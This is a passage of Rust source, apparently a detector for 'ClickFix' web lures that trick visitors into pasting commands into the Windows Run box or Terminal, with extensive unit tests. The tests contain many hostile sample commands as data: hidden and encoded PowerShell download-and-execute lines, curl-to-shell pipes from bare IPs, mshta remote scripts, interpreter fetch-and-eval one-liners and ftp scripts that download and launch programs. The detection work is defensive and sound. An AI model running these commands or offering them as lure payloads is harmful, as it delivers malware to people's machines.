    // A command shown to be typed by hand that fetches so (`curl -s http://203.0.113.5/u | zsh`
    // in Terminal, `cmd /c start \\203.0.113.7@80\v.bat` in the Run box) is judged as a
    // strong one: no docs give it.
    let typed_fetch = typed && fetch > 0 && (run_dialog || terminal);
    if !(windows_run || mac_run || pretext || command.padded || unseen || typed_fetch) {
        return None;
    }
    // A command to type is on the page by design: a shell window named counts as a run step
    // for it only next to a human check (a tutorial names one above its fix as well).
    let typed_run = run_dialog || terminal || verify >= 1.0 && shell_named;
    // Words about scams excuse it without a human check only: a kit's check "protects the site
    // from bots and phishing" too (a write-up quoting the check names the attack: `write_up`).
    // A command from a bare IP or share tells its own story. A plain `curl https://… | sh` is
    // how developer tools install: a lure only with a human check and no installation framed
    // ("Verify you are human … open Terminal and type"; a CAPTCHA library's docs install it).
    let pipe_only = command.shapes.iter().all(|s| *s == Shape::PipeToShell);
    if typed
        && (!(told || fetch > 1)
            || !typed_run
            || about >= 1.0 && verify < 1.0
            || write_up
            || pipe_only && fetch == 0 && (verify < 1.0 || page.install_prose()))
    {
        return None;
    }
    let mut instructions = Vec::new();
    if windows_run || unseen {
        instructions.extend(page.texts(Cat::RunDialog));
        instructions.extend(page.texts(Cat::RunShell));
    }
    if mac_run || unseen || typed_fetch {
        instructions.extend(page.texts(Cat::RunTerminal));
    }
    if windows_run || mac_run || pretext || unseen || typed_fetch {
        instructions.extend(page.texts(Cat::PasteStep).into_iter().take(2));
    }
    let pretext = if page_pretext {
        page.texts(Cat::VerifyHuman).into_iter().next()
    } else if command.comment_pretext {
        Some(command.comment.clone())
    } else {
        None
    };
    Some(ClickFix {
        command,
        instructions,
        pretext,
        typed,
        unseen,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shapes_of(s: &str) -> Vec<Shape> {
        recognise(s).map(|c| c.shapes).unwrap_or_default()
    }

    fn page(text: &str) -> PageHits {
        PageHits::new([text])
    }

    fn judged(clip: &str, text: &str) -> bool {
        assess(clip, &page(text)).is_some()
    }

    /// Whether `clip` is judged on a page of these parts served from `url`.
    /// (Read as a page of many words, as before the forty-sixth session read a lone page's text
    /// in `PageHits::new`: these parts are no title and visible text.)
    fn on(url: &str, parts: &[&str], clip: &str) -> bool {
        let mut page = PageHits::new(parts.iter().copied()).on(url);
        page.lone = false;
        assess(clip, &page).is_some()
    }

    const CAPTCHA: &str = "Verify you are human. Press Win + R, then Ctrl + V, then Enter.";

    #[test]
    fn review40_windowless_python_pip_indexes_and_pages_of_a_few_words() {
        // Windows' windowless Python and its launcher run inline code as `python` does.
        let steps = "Press Win + R, paste with Ctrl + V, press Enter.";
        for clip in [
            "pythonw -c \"import urllib.request as q;exec(q.urlopen('https://relay.test/k').read())\"",
            "py -c \"exec(__import__('urllib.request').request.urlopen('http://198.51.100.8/k').read())\"",
        ] {
            assert_eq!(shapes_of(clip), vec![Shape::PipeToShell], "{clip}");
            assert!(on("https://gate.example/", &["I am not a robot", steps], clip));
        }
        // A fetch-and-eval one-liner under Run-box steps, kept off the page, with no human check
        // (only "the check did not pass"): a lure. A tutorial showing it is not.
        let node = "node -e \"fetch('https://relay.test/n').then(r=>r.text()).then(eval)\"";
        let story = format!("The automatic check did not pass. {steps}");
        assert!(on("https://gate.example/", &["Check", &story], node));
        let shown = format!("Fetch and evaluate in one line. {steps} {node}");
        assert!(!on("https://blog.example/", &["Node tips", &shown], node));
        // pip from a package index on a bare IP or plain http off-site, then run: a download run.
        let pip = "python3 -m pip install --index-url http://203.0.113.4/simple/ helper && python3 -m helper";
        assert_eq!(shapes_of(pip), vec![Shape::PipeToShell]);
        let terminal = "Open the Terminal, paste the command and press Return.";
        assert!(on("https://repair.example/", &["Repair", terminal], pip));
        // From a bare IP, kept off the page, with only a paste step: the same.
        let paste = "The helper stopped. Reinstall it: paste the command where you work.";
        assert!(on("https://repair.example/", &["Repair", paste], pip));
        let shown = format!("{paste} {pip}");
        assert!(!on("https://forum.example/", &["Repair", &shown], pip));
        // A firm's own index, a package named `py`, an install with no run: not so.
        let own =
            "py -m pip install --index-url https://pypi.firm.example/simple/ tool && py -m tool";
        assert_eq!(shapes_of(own), vec![Shape::PipeToShell]);
        assert!(!on(
            "https://it.firm.example/kb/tool",
            &["Tool", steps],
            own
        ));
        assert!(
            shapes_of("pip install --index-url https://pypi.firm.example/simple/ py").is_empty()
        );
        // A page of a few words (steps in a picture) with a check word or nothing readable:
        // a hidden download run from elsewhere, or a Unix download run, is ClickFix.
        let hidden = "powershell -w hidden -c \"iwr https://relay.test/s -useb | iex\"";
        let mac = "curl -fsSL http://198.51.100.30/m | zsh";
        assert!(on(
            "https://gate.example/",
            &["Please wait a moment", "Go"],
            hidden
        ));
        assert!(on(
            "https://gate.example/",
            &["", "Bitte bestätigen: kein Roboter"],
            hidden
        ));
        assert!(on("https://gate.example/", &["", ""], mac));
        assert!(on("https://gate.example/", &["Verificación", "pasos"], mac));
        // The same words over https from a host name: "verification" is also a device portal's.
        assert!(!on(
            "https://gate.example/",
            &["Device verification", "Copy"],
            hidden
        ));
        // A vendor's terse portal (review 40 CF40-M1), its own CDN, its own IP, install words,
        // a private join command, a non-hidden command: silent.
        for (url, parts, clip) in [
            (
                "https://portal.rmm.example/deploy",
                &["Deploy agent", "Copy"],
                hidden,
            ),
            (
                "https://app.notewise.example/",
                &["Just a moment", "Copy"],
                "powershell -w hidden -c \"iwr https://dl.notewise-cdn.example/s.ps1 -useb | iex\"",
            ),
            (
                "http://198.51.100.30:9000/",
                &["Just a moment", "Copy"],
                mac,
            ),
            (
                "https://portal.rmm.example/",
                &["Install the agent: please wait a moment", "Copy"],
                hidden,
            ),
            (
                "https://ops.example/",
                &["Just a moment", "Copy"],
                "curl -sfL http://10.0.0.5:6443/join | sh",
            ),
            (
                "https://tool.example/",
                &["Just a moment", "Copy"],
                "irm https://relay.test/i.ps1 | iex",
            ),
            // A tool's terse page whose installer comes from a release host: its words hold a
            // check word only inside another word (review 42 CF42-M1).
            (
                "https://sdk.gearlab.example/",
                &["GearLab Robotics SDK", "Copy"],
                "curl -fsSL https://releases.cdn-host.example/gearlab/setup | zsh",
            ),
            (
                "https://cli.tallyhq.example/",
                &["Tally CLI. Ready in a moment.", "Copy"],
                "curl -fsSL https://releases.cdn-host.example/tally/setup | zsh",
            ),
            (
                "https://rh.exemple.fr/",
                &["Ressources humaines : outil", "Copier"],
                "curl -fsSL https://releases.cdn-host.example/rh/setup | zsh",
            ),
        ] {
            assert!(!on(url, parts, clip), "{url} {clip}");
        }
    }

    #[test]
    fn review41_bare_ip_indexes_deno_with_every_right_and_mshta_on_a_page_of_a_few_words() {
        // pip or uv from an index on a bare public IP over plain http: pip runs the package's
        // build code, no run after it is needed; kept off the page, the command is the evidence.
        let story = "The notebook engine stopped. Reinstall its helper where you work.";
        for clip in [
            "pip install --index-url http://198.51.100.61:8080/simple/ --trusted-host 198.51.100.61 nb-helper",
            "uv pip install --index-url http://203.0.113.91/simple gpu-fix",
            "py -m pip install -i http://198.51.100.7/pypi codec",
            "pip install --extra-index-url=http://203.0.113.12/pypi/ codec",
        ] {
            assert_eq!(shapes_of(clip), vec![Shape::PipeToShell], "{clip}");
            assert!(on("https://engine-fix.example/", &["Engine", story], clip), "{clip}");
        }
        // Shown on a course page, on the index's own address, or from the person's network
        // (devpi on localhost, a mirror on a private address), from an https index: not so.
        let course = "pip install -i http://198.51.100.50/simple --trusted-host 198.51.100.50 lab";
        let shown =
            format!("The lab server holds the course packages. Open Terminal, paste: {course}");
        assert!(!on("https://cs.uni.example/lab", &["Lab", &shown], course));
        let own = "pip install --index-url http://198.51.100.15:8080/simple/ PACKAGE";
        assert!(!on(
            "http://198.51.100.15:8080/",
            &["Index", "To use it with pip, run:"],
            own
        ));
        for clip in [
            "pip install -i http://localhost:3141/root/dev/+simple/ --trusted-host localhost lib",
            "pip install --index-url http://10.20.30.40/simple --trusted-host 10.20.30.40 tools",
            "uv pip install --index-url http://192.168.7.31:8080/simple tools",
            "pip3 install lib --index-url https://download.ml.example/whl/cu121",
        ] {
            assert!(shapes_of(clip).is_empty(), "{clip}");
        }
        // `deno run` with every right fetches a script and runs it as `curl | sh` does: a lure
        // under Run-box steps with a story, kept off the page. Deno's examples run with no
        // right or the network only; a project's own runs from its own site.
        let deno = "deno run -A https://relay.test/check.ts";
        assert_eq!(shapes_of(deno), vec![Shape::PipeToShell]);
        assert_eq!(
            shapes_of("deno run --allow-all https://relay.test/c.ts"),
            vec![Shape::PipeToShell]
        );
        let steps = "The viewer could not start. Press Win + R, paste with Ctrl + V, press Enter.";
        assert!(on("https://viewer-fix.example/", &["Viewer", steps], deno));
        for clip in [
            "deno run https://deno.land/std/examples/welcome.ts",
            "deno run --allow-net https://deno.land/std/examples/curl.ts https://example.org",
            "deno run -A main.ts",
        ] {
            assert!(shapes_of(clip).is_empty(), "{clip}");
        }
        let own = "deno run -A https://cli.tool.example/main.ts";
        assert!(!on(
            "https://cli.tool.example/install",
            &["Install the CLI", "Open a terminal and paste the command."],
            own
        ));
        // mshta of a remote HTA from a page of a few words (steps in a picture): a bare
        // "verify" or "check" word is enough, over https too. From the page's own site, or on a
        // page with no such word: not so.
        let hta = "mshta https://relay.test/v.hta";
        assert!(on(
            "https://static.pages.example/",
            &["verification", ""],
            hta
        ));
        assert!(on("https://hwakin.example.kr/", &["확인", ""], hta));
        assert!(!on(
            "https://tools.helpdesk.example/",
            &["Launcher", "Copy"],
            "mshta https://tools.helpdesk.example/launch.hta"
        ));
        assert!(!on("https://it.example/", &["Launcher", "Copy"], hta));
    }

    #[test]
    fn review42_a_check_status_in_any_script_and_deno_eval() {
        // A page of a few words that is only a check's status, steps in a picture, a hidden
        // download run from another site over https: ClickFix in any script.
        let hidden = "powershell -nop -w hidden -c \"iwr https://relay.test/s -useb | iex\"";
        for parts in [
            ["Weryfikowanie…", "Dalej"],
            ["확인 중입니다", "다음"],
            ["인증 중...", "다음"],
            ["確認しています", "次へ"],
            ["認証中です", "次へ"],
            ["Проверяем…", "Готово"],
            ["Doğrulanıyor", "Tamam"],
            ["Kontrol ediliyor", "Tamam"],
            ["正在验证", "继续"],
            ["Επαλήθευση", "Συνέχεια"],
            ["Xác minh...", "Tiếp tục"],
            ["Ověřování", "Hotovo"],
        ] {
            assert!(on("https://gate.example/", &parts, hidden), "{parts:?}");
        }
        // A portal whose heading names what it checks (on any of its lines), a Turkish control
        // panel ("kontrol" is also "control"): no status, whatever their button says.
        for parts in [
            &["Ověření služebního notebooku", "Spustit"][..],
            &["Weryfikacja", "Weryfikacja telefonu pracownika", "Start"],
            &["認証キーの配布", "開始"],
            &["Xác minh máy trạm văn phòng", "Bắt đầu"],
            &["Verified hardware enrolment", "Start"],
            &["Kontrol Merkezi · yedekleme servisi", "Başlat"],
            &["Kontrolcü", "Başlat"],
        ] {
            assert!(!on("https://mdm.firm.example/", parts, hidden), "{parts:?}");
        }
        // A portal naming what it checks, or with a Copy button; the page's own site; a Unix
        // installer from a release host (a tool's "Verifying…" page): not so.
        for (url, parts, clip) in [
            (
                "https://mdm.firm.example/",
                ["Проверка устройства", "Копировать"],
                hidden,
            ),
            (
                "https://mdm.firm.example/",
                ["Vérification de l'appareil", "Copier"],
                hidden,
            ),
            (
                "https://mdm.firm.example/",
                ["Weryfikacja przeglądarki", "Kopiuj"],
                hidden,
            ),
            (
                "https://agent.firm.example/",
                ["확인 중입니다", ""],
                "powershell -nop -w hidden -c \"iwr https://agent.firm.example/a.ps1 -useb | iex\"",
            ),
            (
                "https://get.drift.example/",
                ["Verifying…", "drift"],
                "curl -fsSL https://releases.cdn-host.example/drift/install.sh | sh",
            ),
        ] {
            assert!(!on(url, &parts, clip), "{parts:?} {clip}");
        }
        // `deno eval` runs with every right: code fetching an address and evaluating or
        // importing it is a download run; printing what it fetched is docs'.
        for clip in [
            "deno eval \"eval(await (await fetch('https://relay.test/p.js')).text())\"",
            "deno eval \"await import('https://relay.test/x.js')\"",
        ] {
            assert_eq!(shapes_of(clip), vec![Shape::PipeToShell], "{clip}");
            let steps = "The build was paused. Open Terminal, paste with Cmd + V, press Return.";
            assert!(
                on("https://ci-notice.example/", &["Build", steps], clip),
                "{clip}"
            );
        }
        for clip in [
            "deno eval \"console.log(await (await fetch('https://example.org')).text())\"",
            "deno eval \"console.log(Deno.version)\"",
        ] {
            assert!(shapes_of(clip).is_empty(), "{clip}");
        }
    }

    #[test]
    fn review44_a_lone_button_copies_what_no_one_asked_for() {
        // R44-H3: a page whose visible text is one button that names no check ("Weiter",
        // "Continuer", "Kontynuuj", "次へ", the lone word "Copy"), the steps in a picture or
        // nowhere, copying a hidden-window download run or a program saved and started, from
        // another site's unnamed path, that it does not show. Each was silent before.
        let cases = [
            (
                "",
                "Weiter",
                "powershell -WindowStyle Hidden -Command \"iex (irm https://relay.test/d)\"",
            ),
            (
                "Facture",
                "Continuer",
                "cmd /c curl -s https://relay.test/x.cmd | cmd",
            ),
            (
                "Faktura",
                "Kontynuuj",
                "powershell -w 1 -ep bypass -c \"iwr https://relay.test/p -useb | iex\"",
            ),
            (
                "",
                "Copy",
                "powershell -w hidden -c \"iex(iwr https://relay.test/c)\"",
            ),
            (
                "請求書",
                "次へ",
                "cmd /c curl -so %TEMP%\\u.exe https://relay.test/u.exe && start %TEMP%\\u.exe",
            ),
        ];
        for (title, label, clip) in cases {
            let at = "https://gate.example/";
            assert!(
                reasons(&snap_of(at, title, label, clip)).is_some(),
                "{label} {clip}"
            );
            // Not so: two words (a portal's heading and its button), the command shown, the
            // page's own site.
            for (url, text) in [
                (at, format!("Rechnung {label}")),
                (at, format!("{label}\n{clip}")),
                ("https://relay.test/", label.to_string()),
            ] {
                assert_eq!(reasons(&snap_of(url, title, &text, clip)), None, "{text}");
            }
            // A plain `iwr … | iex`: silent under a Copy button (a tool's copy widget), warned
            // under any other lone word since the forty-sixth session.
            let plain = "powershell -c \"iwr https://relay.test/k | iex\"";
            assert_eq!(
                reasons(&snap_of(at, title, label, plain)).is_none(),
                label == "Copy",
                "{label}"
            );
        }
        // A named script: a vendor's installer.
        let named = "powershell -w hidden -c \"iex(iwr https://relay.test/c.ps1)\"";
        assert_eq!(
            reasons(&snap_of("https://gate.example/", "", "Copy", named)),
            None
        );
        // A vendor's lone button: a named script or package, its own CDN; a Unix installer.
        for (url, label, clip) in [
            (
                "https://portal.rmm.example/",
                "Deploy",
                "powershell -w hidden -c \"iwr https://dl.agentcdn.example/a.ps1 -useb | iex\"",
            ),
            (
                "https://notes.example/",
                "Setup",
                "irm https://raw.codehost.example/notes/setup.ps1 | iex",
            ),
            (
                "https://app.notewise.example/",
                "Enroll",
                "powershell -w hidden -c \"iwr https://dl.notewise-cdn.example/s -useb|iex\"",
            ),
            (
                "https://cli.example/",
                "Run",
                "curl -fsSL https://relay.test/a.sh | bash",
            ),
        ] {
            assert_eq!(
                reasons(&snap_of(url, "", label, clip)),
                None,
                "{label} {clip}"
            );
        }
    }

    #[test]
    fn clickfix46_a_page_of_almost_no_words_copying_a_download_run() {
        // Forty-sixth session (issue 9 goal 3): "Loading..." over an encoded PowerShell, a check
        // word and a button ("Verify · Continue"), a plain `irm … | iex` or `msiexec /i https://…`
        // under a button that names no copy ("Continue", "Überprüfen"), a Unix download run under
        // one on a fake macOS page. Each was silent before.
        let b64 = "SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAGQALgB0AGUAcwB0AC8AcwApAA==";
        let enc = format!("powershell -e {b64}");
        let cases = [
            ("Document", "Loading...", enc.as_str()),
            ("請求書", "読み込み中...", enc.as_str()),
            (
                "Boleto",
                "Verificar\nContinuar",
                "powershell -WindowStyle Hidden -c \"iwr https://pkg.test/b -UseBasicParsing | iex\"",
            ),
            ("Shared file", "Continue", "irm https://cdn.test/q | iex"),
            (
                "Paketstatus",
                "Überprüfen",
                "powershell -c \"irm https://dl.test/c | iex\"",
            ),
            (
                "Avis",
                "Continuer",
                "msiexec /i https://serv.test/pkg /qn",
            ),
            (
                "macOS Update",
                "Continue",
                "curl -fsSL https://updates.test/i | bash",
            ),
            (
                "iCloud",
                "Verify",
                "osascript -e 'do shell script \"curl -s https://ph.test/a | sh\"'",
            ),
        ];
        for (title, text, clip) in cases {
            let at = "https://gate.example/";
            assert!(
                reasons(&snap_of(at, title, text, clip)).is_some(),
                "{text} {clip}"
            );
            // Not so: a portal's heading and its button, the command shown.
            // ("Loading..." is a status: a heading and it are a lone page.)
            let heading = format!("Rechnung {text}");
            for text in [heading, format!("{text}\n{clip}")] {
                if text.ends_with("...") {
                    continue;
                }
                assert_eq!(reasons(&snap_of(at, title, &text, clip)), None, "{text}");
            }
        }
        // A Copy button (a docs widget's frame), an icon's frame with no word, a named installer,
        // an install button, a word naming what the page offers to run (a portal's), a coupon.
        for (text, clip) in [
            ("Copy", "irm https://cdn.test/win | iex"),
            ("Kopiuj", "curl -fsSL https://cdn.test/i | sh"),
            ("Copia", "msiexec /i https://cdn.test/s /qn"),
            ("", "irm https://cdn.test/win | iex"),
            ("Continue", "irm https://cdn.test/i.ps1 | iex"),
            ("Install", "curl -fsSL https://cdn.test/i | bash"),
            ("Tools", "irm https://cdn.test/win | iex"),
            ("Run", "curl -fsSL https://cdn.test/b | bash"),
            ("ツール", "irm https://cdn.test/win | iex"),
            ("Downloads", "msiexec /i https://cdn.test/s /qn"),
            ("Continue", "SAVE20"),
            // A code block's label (review 46 R46-B2: fnm's and Bun's real installers).
            ("bash", "curl -fsSL https://cdn.test/install | bash"),
            ("zsh", "curl -fsSL https://cdn.test/install | zsh"),
            ("Windows", "irm https://cdn.test/install.win | iex"),
            ("Linux", "curl -fsSL https://cdn.test/i | sh"),
        ] {
            let snap = snap_of("https://docs.a.example/", "", text, clip);
            assert_eq!(reasons(&snap), None, "{text} {clip}");
        }
        // The command's own site.
        let snap = snap_of(
            "https://cdn.test/",
            "",
            "Continue",
            "irm https://cdn.test/q | iex",
        );
        assert_eq!(reasons(&snap), None);
        // A French admin guide deploying its agent from its own site under Run-box steps (warned
        // before "déploiement de l'agent" joined fr `install_docs`, as English "deploy the agent").
        let clip = "msiexec /i https://intranet.mairie.example/dsi/Agent.msi /qn";
        let text = format!("Ouvrez Exécuter (Win+R), collez la commande et validez.\n{clip}");
        let at = "https://intranet.mairie.example/dsi/agent";
        let snap = snap_of(at, "Déploiement de l'agent", &text, clip);
        assert_eq!(reasons(&snap), None);
    }

    #[test]
    fn a_command_buried_among_filler_lines_on_a_status_page() {
        // Forty-fourth session (review 43 CF43-M1): a terse check status, steps in a picture, a
        // copy whose one command line sits among alike lines (a counter aside) fetching from
        // another site over https, hidden window or not.
        let bury = |fill: &dyn Fn(usize) -> String, cmd: &str| {
            let lines: Vec<String> = (0..12).map(fill).collect();
            format!("{}\n{cmd}\n{}", lines.join("\n"), lines.join("\n"))
        };
        let cases: [(&[&str], String); 4] = [
            (
                &["Weryfikowanie…", "Dalej"],
                bury(
                    &|_| "~~~~~~~~".into(),
                    "powershell -c \"iwr https://relay.test/z | iex\"",
                ),
            ),
            (
                &["Xác minh…", "OK"][..],
                bury(
                    &|i| format!(":: {i:05} xong"),
                    "msiexec /q /i https://relay.test/p.msi",
                ),
            ),
            (
                &["Ověřování", "Hotovo"],
                bury(
                    &|i| format!("REM krok {i} ok"),
                    "deno eval \"await import('https://relay.test/x.js')\"",
                ),
            ),
            (
                &["確認中", "次へ"],
                bury(
                    &|_| "# ----".into(),
                    "powershell iex (irm https://relay.test/k)",
                ),
            ),
        ];
        for (parts, clip) in &cases {
            assert!(on("https://gate.example/", parts, clip), "{parts:?}");
            // Not so: the same command on its own line; a page that says it copies; one naming
            // what it checks; a copy whose lines differ (a script).
            let one = clip.lines().nth(12).unwrap_or("");
            assert!(!on("https://gate.example/", parts, one), "{one}");
            assert!(!on("https://gate.example/", &[parts[0], "Kopiuj"], clip));
            assert!(!on(
                "https://mdm.firm.example/",
                &["Weryfikacja laptopa", "Start"],
                clip
            ));
            let script = bury(
                &|i| format!("set opt_{i}=\"{}\"", "abcdefghijklm".get(i..).unwrap_or("")),
                one,
            );
            assert!(!on("https://gate.example/", parts, &script), "{script}");
        }
        // Fewer than BURIED_LINES lines, or lines that are not alike, are no filler.
        assert!(!buried("a\nb\nc\nd"));
        assert!(buried(&"REM 1 ok\n".repeat(BURIED_LINES)));
        assert!(!buried(&"REM 1 ok\n".repeat(BURIED_LINES - 1)));
    }

    #[test]
    fn a_share_host_of_many_digits_is_no_private_address_and_no_panic() {
        // Found by the fuzzer (snapshot_json): 20+ digits overflowed the u64 before the length test.
        assert!(!private_ip("1111111111111111111111111111111111"));
        assert!(!private_ip("10.0.0.11111111111111111111111"));
        assert!(private_ip("10.0.0.1"));
        assert!(unc_reaches_out(
            "\\\\99999999999999999999999999\\pub\\a.hta"
        ));
    }

    #[test]
    fn an_interpreter_fed_from_an_address_is_a_download_run() {
        // Review 39 R39-M4: inline code that fetches and runs what it read.
        for cmd in [
            "python3 -c \"import urllib.request as r;exec(r.urlopen('https://relay.test/k').read())\"",
            "python -c \"import requests;exec(requests.get('http://relay.test/a').text)\"",
            "ruby -ropen-uri -e 'eval(URI.open(\"https://relay.test/r\").read)'",
            "node -e \"fetch('https://relay.test/n').then(r=>r.text()).then(eval)\"",
            "node -e \"fetch('https://relay.test/n').then(r=>r.text()).then(t=>new Function(t)())\"",
            "perl -MLWP::Simple -e 'eval get \"http://relay.test/p\"'",
            "php -r 'eval(file_get_contents(\"https://relay.test/x\"));'",
        ] {
            assert_eq!(shapes_of(cmd), vec![Shape::PipeToShell], "{cmd}");
        }
        // Docs' one-liners: nothing fetched, or what is fetched printed.
        for cmd in [
            "python -c \"import sys; print(sys.version)\"",
            "node -e \"console.log(1)\"",
            "ruby -e \"puts RUBY_VERSION\"",
            "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://api.test/v1').read())\"",
            "perl -MLWP::Simple -e 'getprint \"https://www.test/\"'",
            "php -r 'echo file_get_contents(\"https://api.test/ping\");'",
            "python3 -c \"exec(open('setup_local.py').read())\"",
            "pip install example-lib",
        ] {
            assert!(shapes_of(cmd).is_empty(), "{cmd}");
        }
        let mac =
            "Verify you are human. Open Terminal, paste the code with Cmd + V and press Return.";
        assert!(judged(
            "python3 -c \"import urllib.request as u;exec(u.urlopen('http://relay.test/p').read())\"",
            mac
        ));
    }

    #[test]
    fn terminal_through_finders_utilities_in_other_languages() {
        // Fortieth session: en "Utilities → Terminal" in de fr es it nl pt.
        let cmd = "osascript -e 'do shell script \"curl -s https://m.test/p | sh\"'";
        for steps in [
            "Finder → Programme → Dienstprogramme → Terminal. Befehl einfügen (Cmd + V), dann Return.",
            "Finder > Applications > Utilitaires > Terminal, collez la commande (Cmd + V) puis Entrée.",
            "Finder → Aplicaciones → Utilidades → Terminal, pegue el comando (Cmd + V) y pulse Intro.",
            "Finder → Applicazioni → Utility → Terminale, incolla il comando (Cmd + V) e premi Invio.",
            "Finder → Programma's → Hulpprogramma's → Terminal, plak de opdracht (Cmd + V).",
            "Finder → Aplicativos → Utilitários → Terminal, cole o comando (Cmd + V) e pressione Return.",
        ] {
            assert!(judged(cmd, steps), "{steps}");
        }
        // The paste step alone names no Terminal.
        assert!(!judged(cmd, "Befehl einfügen (Cmd + V), dann Return."));
    }

    #[test]
    fn powershell_shapes() {
        let s = shapes_of("powershell -w hidden -c \"iwr https://x.example/a.ps1 | iex\"");
        assert!(s.contains(&Shape::PowerShellDownload), "{s:?}");
        assert!(s.contains(&Shape::PowerShellHidden), "{s:?}");
        assert_eq!(
            shapes_of("pwsh -EncodedCommand SQBFAFgA"),
            vec![Shape::PowerShellEncoded]
        );
        assert_eq!(
            shapes_of("powershell.exe -enc SQBFAFgA"),
            vec![Shape::PowerShellEncoded]
        );
        assert_eq!(
            shapes_of("PowerShell -e SQBFAFgA"),
            vec![Shape::PowerShellEncoded]
        );
        assert_eq!(
            shapes_of("powershell -WindowStyle Hidden -File a.ps1"),
            vec![Shape::PowerShellHidden]
        );
        assert_eq!(
            shapes_of("powershell -win 1 calc"),
            vec![Shape::PowerShellHidden]
        );
        // -ExecutionPolicy is not -EncodedCommand.
        assert_eq!(
            shapes_of("powershell -ep bypass -File a.ps1"),
            vec![Shape::PowerShell]
        );
        assert_eq!(
            shapes_of("irm https://x.example/s | iex"),
            vec![Shape::PowerShellDownload]
        );
        assert_eq!(
            shapes_of("Invoke-Expression (Invoke-WebRequest -Uri https://x.example/p).Content"),
            vec![Shape::PowerShellDownload]
        );
        assert_eq!(
            shapes_of("powershell -c (New-Object Net.WebClient).DownloadString('https://x.example/a')|IEX"),
            vec![Shape::PowerShellDownload]
        );
        assert!(shapes_of(
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w h -c calc"
        )
        .contains(&Shape::PowerShellHidden));
        assert!(shapes_of("conhost.exe --headless powershell -c calc")
            .contains(&Shape::PowerShellHidden));
    }

    #[test]
    fn obfuscated_names_still_read() {
        assert!(!shapes_of("p^o^w^e^r^s^h^e^l^l -w h -c calc").is_empty());
        assert!(shapes_of("pow''ershell -c i`e`x(i`w`r https://x.example)")
            .contains(&Shape::PowerShellDownload));
        assert!(!shapes_of("ｐｏｗｅｒｓｈｅｌｌ -enc SQBFAFgA").is_empty());
        assert!(!shapes_of("pow\u{200B}ershell -enc SQBFAFgA").is_empty());
        assert!(!shapes_of("POWERSHELL -ENC SQBFAFgA").is_empty());
    }

    #[test]
    fn thirty_ninth_session_shapes_and_their_honest_twins() {
        // Hex turned back into a script by `xxd -r -p`, as `base64 -d` does.
        for cmd in [
            "echo 6375726c | xxd -r -p | sh",
            "echo 6375726c | xxd -p -r | bash",
            "eval \"$(echo 6375726c | xxd -rp)\"",
        ] {
            assert_eq!(shapes_of(cmd), vec![Shape::Base64Shell], "{cmd}");
        }
        assert!(shapes_of("echo 48656c6c6f0a | xxd -r -p").is_empty());
        assert!(shapes_of("xxd -r -p dump.hex > fw.bin && sha256sum fw.bin").is_empty());
        // A `script:` moniker: Windows' signed pubprn.vbs fetches and runs a scriptlet.
        let prn = "C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 \
                   script:https://cdn.x.test/v.sct";
        assert_eq!(shapes_of(prn), vec![Shape::ScriptHostUrl]);
        assert!(judged(
            prn,
            "Press Win and R together, paste and press Enter."
        ));
        // An IT page publishing printers with it names an LDAP path, no moniker.
        assert!(shapes_of(
            "cscript pubprn.vbs \\\\printsrv01 \"LDAP://CN=Printers,DC=corp,DC=local\""
        )
        .is_empty());
        // `ftp -s:` running commands that fetch or run a program; a scripted upload does not.
        for cmd in [
            "cmd /c \"echo open 203.0.113.7>%TEMP%\\f&echo get r.exe>>%TEMP%\\f&ftp -s:%TEMP%\\f&%TEMP%\\r.exe\"",
            "cmd /c \"echo open ftp.x.test>a&echo !fix.exe>>a&ftp -i -s:a\"",
            "ftp -s:\\\\198.51.100.14@80\\pub\\f.txt",
        ] {
            assert!(shapes_of(cmd).contains(&Shape::FtpScript), "{cmd}");
        }
        assert!(!shapes_of(
            "echo open ftp.corp.test>up.txt&echo put report.csv>>up.txt&ftp -s:up.txt"
        )
        .contains(&Shape::FtpScript));
        assert!(shapes_of("ftp -s:C:\\scripts\\upload.txt ftp.corp.test").is_empty());
        // An IT page's own script fetching its nightly build, and an upload that ends with a `!`
        // in an echoed message (review 39 C-M1).
        assert!(!shapes_of("echo get nightly.exe>>f.txt&ftp -s:f.txt").contains(&Shape::FtpScript));
        assert!(
            !shapes_of("echo put r.csv>u&ftp -s:u&echo Upload complete!")
                .contains(&Shape::FtpScript)
        );
        // `explorer URL` of a program is not read: IT pages give it under Run-box steps as
        // `msiexec /i https://…` is (review 39 C-H1).
        assert!(shapes_of("explorer https://dl.x.test/Viewer_Setup.exe").is_empty());
        assert!(shapes_of("explorer https://portal.corp.test/apps").is_empty());
        assert!(shapes_of("start https://x.test/download?file=a.pdf").is_empty());
    }

    #[test]
    fn padding_before_the_payload_shows_the_whole_command() {
        let c = recognise(&format!(
            "powershell{}-w h -c \"iwr https://p.x.test/c.ps1|iex\"",
            " ".repeat(150)
        ))
        .expect("read");
        assert!(c.padded);
        assert!(c.shown.contains("p[.]x[.]test"), "{}", c.shown);
        // Before a comment the command alone is shown, as before.
        let c = recognise(&format!(
            "powershell -enc SQBFAFgA{}# I am not a robot",
            " ".repeat(40)
        ))
        .expect("read");
        assert!(!c.shown.contains("robot"), "{}", c.shown);
    }

    #[test]
    fn thirty_ninth_session_step_wordings() {
        let irm = "powershell -c \"irm https://files.cdn-x.test/s.ps1 | iex\"";
        let curl = "curl -fsSL https://cdn.macfix-x.test/u.sh | bash";
        for (clip, text) in [
            (
                irm,
                "Open the file: press Win and R together, then Ctrl and V, then Enter.",
            ),
            (
                irm,
                "Press the Windows and R keys at the same time, paste and press Enter.",
            ),
            (
                curl,
                "Open Finder → Applications → Utilities → Terminal. Paste and press Return.",
            ),
            (
                curl,
                "Launch the Terminal application, paste the command and press Return.",
            ),
            (
                irm,
                "Tekan tombol Windows dan R secara bersamaan, tempelkan, lalu tekan Enter.",
            ),
            (
                irm,
                "Buka kotak dialog Jalankan, tempelkan perintah dan tekan Enter.",
            ),
            (
                curl,
                "Buka aplikasi Terminal, tempelkan perintah lalu tekan Return.",
            ),
        ] {
            assert!(judged(clip, text), "{text}");
        }
        // The same words on install docs that show their own site's command stay silent.
        let own = "curl -fsSL https://get.tool.test/install.sh | sh";
        let docs =
            "Install Tool. Launch the Terminal application and paste the following command: \
                    curl -fsSL https://get.tool.test/install.sh | sh";
        assert!(assess(own, &PageHits::new([docs]).on("https://tool.test/install")).is_none());
    }

    #[test]
    fn windows_living_off_the_land() {
        assert_eq!(
